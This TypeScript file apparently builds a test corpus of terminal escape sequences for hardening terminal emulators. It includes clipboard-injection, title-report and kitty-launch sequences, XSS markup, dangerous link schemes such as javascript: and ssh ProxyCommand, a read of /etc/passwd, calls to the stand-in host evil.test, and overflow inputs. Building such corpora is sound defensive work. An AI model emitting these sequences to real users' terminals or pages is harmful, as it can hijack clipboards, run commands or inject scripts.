/**
 * Output that has made terminals do things: some three hundred sequences, as families of forms and payloads. Every payload
 * with a text of its own has the word "pwned" in it, so that whoever passes it on is found out.
 *
 * Where they are from: ctlseqs of xterm (invisible-island.net/xterm/ctlseqs), the manuals of iTerm2 (OSC 1337, 9), kitty
 * (OSC 99, 5522, APC G, DCS @), VTE and urxvt (OSC 777), VS Code (OSC 633), FinalTerm (OSC 133), mintty, rxvt, GNU screen
 * (ESC k), tmux (DCS tmux;), the Linux console (OSC P, OSC R); H D Moore, "Terminal Emulator Security Issues" (2003). Defects:
 * CVE-2003-0063 and CVE-2024-38396 (title reports), CVE-2008-2383 (DECRQSS), CVE-2019-0542 (xterm.js), CVE-2021-27135
 * (combining characters), CVE-2021-33477 (ESC G Q), CVE-2022-45063 (OSC 50); xterm.js issue 4220 (OSC 52); iTerm2 pull 81,
 * mosh issue 271, kitty issue 10333 (counts).
 */
import { queries } from './query-corpus.ts';

export interface Sequence {
  readonly name: string;
  readonly output: string | Uint8Array;
}

const esc = '\u001b';
const bel = '\u0007';
const st = `${esc}\\`;
/** Ends whatever string or mode the output is in, and clears the screen. */
export const anew = `\u0018${st}${esc}c`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const osc = (body: string) => `${esc}]${body}${bel}`;
const dcs = (body: string) => `${esc}P${body}${st}`;
const apc = (body: string) => `${esc}_${body}${st}`;
/** The same control string with each introducer and terminator there is. */
const everyForm = (body: string) => [
  `${esc}]${body}${bel}`,
  `${esc}]${body}${st}`,
  `\u009d${body}\u009c`,
  `${esc}]${body}\u009c`,
  `\u009d${body}${bel}`,
];

const command = 'touch /tmp/pwned\n';
const markup = [
  '<img src=x onerror=pwned(1)>',
  '<script>pwned(2)</script>',
  '</title><script>pwned(3)</script>',
  '<svg/onload=pwned(4)>',
  '<iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>',
  '<style>body{display:none}/*pwned*/</style>',
  '"><a href="javascript:pwned(6)">x</a>',
  '</span></div><form action=//evil.test/pwned><input autofocus>',
  '<meta http-equiv=refresh content="0;url=//evil.test/pwned">',
  '<base href=//evil.test/pwned>',
  '<link rel=stylesheet href=//evil.test/pwned.css>',
  '<object data=//evil.test/pwned></object><embed src=//evil.test/pwned>',
  '<details open ontoggle=pwned(7)>',
  '&lt;img src=x onerror=pwned(8)&gt;',
  '{{constructor.constructor("pwned(9)")()}}${pwned(10)}',
] as const;

/** What a link must never lead to. None is http or https. */
export const oddAddresses = [
  ...[
    'javascript:pwned(1)',
    'JaVaScRiPt:pwned(2)',
    ' javascript:pwned(3)',
    'java\tscript:pwned(4)',
    '\u00a0javascript:pwned(5)',
  ],
  ...['javascript://kubernetes.io/%0apwned(6)', 'javascript:window.open("//evil.test/pwned")', 'livescript:pwned(7)'],
  ...['data:text/html,<script>pwned(8)</script>', `data:text/html;base64,${base64('<script>pwned(9)</script>')}`],
  ...[
    'vbscript:pwned',
    'file:///etc/passwd?pwned',
    'file://evil.test/pwned',
    '\\\\evil.test\\pwned',
    '//evil.test/pwned',
  ],
  ...['ssh://evil.test/pwned', 'ssh://-oProxyCommand=pwned/', 'ssh:-oProxyCommand=pwned', 'sftp://evil.test/pwned'],
  ...['ftp://evil.test/pwned', 'smb://evil.test/pwned', 'nfs://evil.test/pwned', 'telnet://evil.test:23/pwned'],
  ...['ldap://evil.test/pwned', 'rdp://evil.test/pwned', 'vnc://evil.test/pwned', 'git+ssh://evil.test/pwned'],
  ...['x-man-page://pwned', 'man:pwned', 'mailto:pwned@evil.test', 'tel:+1900pwned', 'sms:+1900?body=pwned'],
  ...[
    'about:blank#pwned',
    'blob:http://evil.test/pwned',
    'filesystem:http://evil.test/pwned',
    'chrome://settings/pwned',
  ],
  ...['view-source:http://evil.test/pwned', 'chrome-extension://pwned/', 'devtools://pwned/', 'resource://pwned/'],
  ...[
    'ms-msdt:/id pwned',
    'search-ms:query=pwned',
    'ms-officecmd:pwned',
    'vscode://file/pwned',
    'jetbrains://pwned/open',
  ],
  ...['intent://evil.test/pwned#Intent;end', 'itms-services://?url=pwned', 'steam://run/pwned', 'slack://pwned'],
  ...[
    'magnet:?xt=pwned',
    'ws://evil.test/pwned',
    'wss://evil.test/pwned',
    'unknown-scheme:pwned',
    'http',
    '/api/pwned',
  ],
  ...['../pwned', '?pwned', '#/drill/pwned', 'httpx://evil.test/pwned', 'http\u2024s://evil.test/pwned'],
] as const;
export const hyperlink = (address: string, words: string) => `${osc(`8;;${address}`)}${words}${osc('8;;')}`;

const clipboard = [
  ...['c', 'p', 'q', 's', '0', '7', '', 'pc', 'cpqs01234567'].flatMap((selection) =>
    [base64(command), '?', '!', ''].map((data) => osc(`52;${selection};${data}`)),
  ),
  ...everyForm(`52;c;${base64(command)}`),
  osc(`52;c;${base64('pwned'.repeat(20_000))}`),
  osc('52;c;not base64 pwned'),
  osc(`5522;type=write;${base64(command)}`),
  osc(`5522;type=read;${base64('text/plain')}`),
  osc(`1337;Copy=:${base64(command)}`),
  `${osc('1337;CopyToClipboard=general')}${command}${osc('1337;EndCopy')}`,
  osc(`50;CopyToClipboard=${base64(command)}`),
  dcs(`tmux;${esc}${esc}]52;c;${base64(command)}${bel}`),
  dcs(`${esc}]52;c;${base64(command)}${bel}`),
];

const titles = [
  ...['0', '1', '2', '21', 'l', 'L', 'I', '30', '3'].map((kind) => osc(`${kind};pwned`)),
  ...everyForm('2;pwned'),
  ...markup.slice(0, 5).map((text) => osc(`0;${text}`)),
  `${esc}kpwned${st}`,
  osc(`2;${'pwned '.repeat(20_000)}`),
  osc('2;\u202epwned'),
  // Set, saved, reported: the report used to be typed into the shell.
  `${osc(`2;${command}`)}${esc}[21t`,
  `${osc(`1;${command}`)}${esc}[20t`,
  `${osc('2;pwned')}${esc}[22;0t${esc}[23;0t`,
  `${esc}[>2t${osc('2;70776e6564')}${esc}[21t`,
];

const links = [
  ...oddAddresses.map((address) => hyperlink(address, 'pwned')),
  ...markup.slice(0, 4).map((text) => `${osc(`8;id=${text};https://evil.test/`)}pwned${osc('8;;')}`),
  osc('8;;https://evil.test/pwned/never-closed'),
  hyperlink(`https://evil.test/${'pwned/'.repeat(20_000)}`, 'pwned'),
];

const injections = [
  ...markup.flatMap((text) => [text, osc(`7;file://${text}`), osc(`1337;SetMark=${text}`)]),
  ...markup.slice(0, 5).flatMap((text) => [osc(`133;A;${text}`), osc(`633;E;${text}`), apc(text)]),
  // Colours go into a style sheet.
  ...['4;1', '10', '11', '12', '5;0', '17', '19', '104', '708'].map((kind) =>
    osc(`${kind};red;}body{display:none}/*pwned*/`),
  ),
  osc('4;1;url(https://evil.test/pwned)'),
  osc('11;expression(pwned(1))'),
  `${esc}[38:2::1:2:3;4:5;58:5:1mpwned`,
];

const requests = [
  osc(`9;pwned`),
  osc('9;4;1;100'),
  osc('9;9;"C:\\pwned"'),
  osc('9;5'),
  osc('9;8;"pwned"'),
  osc('99;i=1:d=0;pwned'),
  osc('777;notify;pwned;pwned'),
  osc('777;preexec'),
  osc('46;/tmp/pwned'),
  osc('50;pwned'),
  osc('50;?'),
  osc('50;#+1'),
  osc('55;/tmp/pwned'),
  osc('56;pwned'),
  osc('60'),
  osc('440;pwned.wav'),
  osc('7770;+1'),
  osc('7773;pwned'),
  osc(`1337;OpenURL=:${base64('https://evil.test/pwned')}`),
  osc(`1337;File=name=${base64('pwned')};inline=0;size=4:${base64('pwned')}`),
  osc(`1337;File=name=${base64('pwned.svg')};inline=1:${base64('<svg onload=pwned(1)>')}`),
  osc('1337;RequestUpload=format=tgz'),
  osc('1337;RequestAttention=fireworks'),
  osc('1337;StealFocus'),
  osc('1337;ClearScrollback'),
  osc('1337;SetProfile=pwned'),
  osc('1337;SetKeyLabel=F1=pwned'),
  osc('1337;CurrentDir=/pwned'),
  osc(`1337;Custom=id=pwned:pwned`),
  osc(`1337;Block=id=pwned;attr=start`),
  osc('633;P;Cwd=/pwned'),
  osc(`633;E;${command.trim()}`),
  osc('133;D;0;pwned'),
  osc('P1ff0000'),
  osc('R'),
  `${esc}GQ`,
  `${esc}[5i${command}${esc}[4i`,
  `${esc}[?5i`,
  dcs(`1000pwned`),
  dcs('@kitty-cmd{"cmd":"launch","version":[0,26,0],"payload":{"args":["pwned"]}}'),
  dcs('tmux;pwned'),
  dcs(`1;1|17/${Buffer.from(command).toString('hex')}`),
  dcs(`$qpwned\n${command}`),
  dcs(`+q${Buffer.from('pwned').toString('hex')}`),
  dcs('0;0;0!zpwned\u001b[1*z'),
];

const pictures = [
  dcs('0;0;0q"1;1;9999;9999#0;2;0;0;0!9999~-pwned'),
  dcs('pS(E)P[0,0]T"pwned"'),
  apc(`Ga=T,f=100,t=f;${base64('/etc/passwd')}`),
  apc(`Ga=T,f=100,t=s;${base64('/pwned')}`),
  apc(`Ga=T,f=24,s=99999,v=99999;${base64('pwned')}`),
  apc('Ga=d'),
];

const windows = [
  ...[1, 2, '3;0;0', '4;9999;9999', 5, 6, 7, '8;9999;9999', '9;1', '10;2', 24, '3;99999;99999'].map(
    (act) => `${esc}[${act}t`,
  ),
  `${esc}[?3h${esc}[?40h${esc}[?3l`,
  `${esc}[9999$|`,
  `${esc}[9999*|`,
];

const modes = [
  ...[1, 5, 6, 7, 9, 12, 25, 45, 47, 66, 67, 69, 80].map((mode) => `${esc}[?${mode}hpwned`),
  ...[1000, 1001, 1002, 1003, 1005, 1006, 1015, 1016, 1034, 1047, 1049, 2026, 2031, 9001].map(
    (mode) => `${esc}[?${mode}hpwned`,
  ),
  ...['[2h', '[4h', '[20h', '[>4;2m', '[>1u', '[=31;1u', '[12h', '[?1049;1003;2026h'].map(
    (mode) => `${esc}${mode}pwned`,
  ),
  ...[
    '=',
    '>',
    'n',
    'o',
    '|',
    '}',
    '~',
    '7',
    '8',
    'D',
    'E',
    'H',
    'M',
    'N',
    'O',
    'V',
    'W',
    'X',
    'c',
    'l',
    'm',
    '6',
    '9',
  ].map((letter) => `${esc}${letter}pwned`),
  ...['(0', ')0', '*0', '+0', '(A', '%@', '%G', '#3', '#8', ' F', ' G'].map((set) => `${esc}${set}\u000epwned\u000f`),
];

/** More than any screen has, in each sequence that counts. */
const counts = [
  ...[...'@ABCDEFGHIJKLMPSTXZ`abde'].map((final) => `pwned${esc}[2147483647${final}`),
  ...[' @', ' A', "'}", "'~", '#{', '"q', '$r', '*x'].map((final) => `pwned${esc}[2147483647${final}`),
  ...['2147483647;2147483647H', '2147483647;2147483647r', '2147483647;2147483647f', '99999999999999999999S'].map(
    (rest) => `pwned${esc}[${rest}`,
  ),
  ...['LMSTIZb'].flatMap((finals) => [...finals].map((final) => `pwned${esc}[2000000${final}`)),
  `${esc}[${'1;'.repeat(20_000)}m`,
  `${esc}[38:${'1:'.repeat(20_000)}m`,
  osc(`4;${'1;#123456;'.repeat(20_000)}`),
  osc(`104;${'1;'.repeat(100_000)}`),
];

/** Strings that never end, and things that are no string. */
const broken = [
  ...[']52;c;', ']8;;https://evil.test/', ']0;', 'P', 'P$q', '_G', '^', 'X', '[', '[?', '[1;', '(', ']'].map(
    (start) => `${esc}${start}pwned`,
  ),
  `${esc}]52;c;${esc}]52;c;${base64(command)}${bel}`,
  `${esc}P${esc}P${esc}_${esc}^pwned`,
  ...[
    [0xc2],
    [0xc0, 0xaf],
    [0xed, 0xa0, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
    [0xff, 0xfe],
    [0xe2, 0x82],
    [0x80, 0x9b, 0x9d],
  ].map((bytes) => Uint8Array.from([...bytes, ...Buffer.from(']0;pwned\u0007')])),
  Uint8Array.from({ length: 512 }, (_, at) => at % 256),
];

const characters = [
  `a${'\u0301'.repeat(100_000)}pwned`,
  `${'\u0301'.repeat(10_000)}pwned`,
  `\u{1f469}${'\u200d\u{1f469}'.repeat(10_000)}pwned`,
  `${'\ufdfd'.repeat(500)}pwned`,
  '\u202epwned\u202c\u2066\u2067\u2068\u2069',
  '\u200b\u200e\u200f\ufeff\u2028\u2029pwned',
  '\uffff\ufffe\u{10ffff}\ue000pwned',
  '\u0000\u0001\u0005\u0008\u0011\u0013\u007fpwned',
  '\u0008'.repeat(10_000),
  bel.repeat(10_000),
];

const families = {
  ...{ clipboard, titles, links, injections, requests, pictures, windows, modes, counts, broken, characters },
  queries,
} satisfies Record<string, readonly (string | Uint8Array)[]>;

export const escapeCorpus: readonly Sequence[] = Object.entries(families).flatMap(([family, outputs]) =>
  outputs.map((output, at) => ({ name: `${family} ${at + 1}: ${nameOf(output)}`, output })),
);

function nameOf(output: string | Uint8Array): string {
  return JSON.stringify(Buffer.from(output).subarray(0, 60).toString('latin1'));
}
